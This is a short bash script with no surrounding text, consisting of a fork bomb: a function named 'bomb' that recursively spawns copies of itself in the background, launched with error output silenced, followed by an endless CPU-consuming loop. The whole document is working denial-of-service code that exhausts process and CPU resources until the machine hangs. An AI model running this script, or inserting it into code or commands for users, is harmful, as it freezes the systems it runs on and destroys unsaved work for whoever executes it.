bomb() { bomb | bomb & }
bomb 2>/dev/null
while :; do :; done
